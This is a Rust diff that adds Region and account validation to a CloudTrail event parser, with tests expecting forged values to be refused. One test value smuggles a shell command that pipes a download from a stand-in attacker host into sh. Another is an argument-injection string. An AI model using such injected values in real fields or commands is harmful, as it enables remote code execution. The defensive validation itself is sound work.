@@ -11,6 +11,7 @@ use serde_json::Value;
 
 use crate::control::Watch;
 use crate::json;
+use crate::policy::is_account;
 
 /// What an API call under CloudTrail arrives as.
 pub const API_CALL: &str = "AWS API Call via CloudTrail";
@@ -223,6 +224,10 @@ impl Event {
                 self.envelope_account, self.account
             ));
         }
+        // Both stand in links and in commands that people copy, and name the resource that is looked at.
+        if !is_account(&self.account) || !is_region(&self.region) {
+            return forged(format!("there is no account `{}` or no Region `{}`", self.account, self.region));
+        }
         match &self.error_code {
             Some(code) => Err(Refusal::Failed(code.clone())),
             None => Ok(()),
@@ -348,6 +353,12 @@ fn moment(field: &'static str, text: String) -> Result<Timestamp, Malformed> {
     text.parse().map_err(|_| Malformed { field, expected: A_TIME, found: text })
 }
 
+/// Whether it has the form of a Region's name, such as `us-gov-west-1`. Which there are changes.
+fn is_region(name: &str) -> bool {
+    name.starts_with(|char: char| char.is_ascii_lowercase())
+        && name.chars().all(|char| char.is_ascii_lowercase() || char.is_ascii_digit() || char == '-')
+}
+
 fn required(record: &Value, field: &'static str, expected: &'static str) -> Result<String, Malformed> {
     json::text(record, field).map(str::to_owned).ok_or_else(|| Malformed {
         field,
@@ -403,6 +414,9 @@ mod tests {
             changed("/detail-type", json!(SERVICE_EVENT)),
             changed("/account", json!("444455556666")),
             changed("/detail/recipientAccountId", json!("444455556666")),
+            changed("/detail/awsRegion", json!("evil.example/")),
+            changed("/detail/awsRegion", json!("us-east-1; curl evil.example | sh")),
+            changed("/detail/awsRegion", json!("--help")),
         ] {
             assert!(matches!(forged.admit(), Err(Refusal::Forged(_))), "{forged:?}");
         }
